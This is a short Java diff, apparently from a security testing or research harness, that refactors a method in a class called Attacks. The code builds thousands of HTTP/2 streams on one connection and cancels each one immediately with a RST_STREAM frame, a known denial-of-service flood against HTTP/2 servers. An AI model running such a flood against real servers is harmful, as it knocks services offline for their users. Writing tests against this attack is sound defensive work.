@@ -113,8 +113,13 @@ final class Attacks {
         }
         send(secure("h2"), PREFACE, EMPTY_SETTINGS, header.toByteArray());
 
+        resets(20_000);
+    }
+
+    /** HTTP/2 requests of one connection that are taken back at once. */
+    void resets(int count) throws IOException {
         ByteArrayOutputStream resets = new ByteArrayOutputStream();
-        for (int i = 0; i < 20_000; i++) {
+        for (int i = 0; i < count; i++) {
             int stream = 2 * i + 1;
             resets.writeBytes(frame(1, 5, stream, REQUEST));
             resets.writeBytes(frame(3, 0, stream, new byte[] {0, 0, 0, 8}));
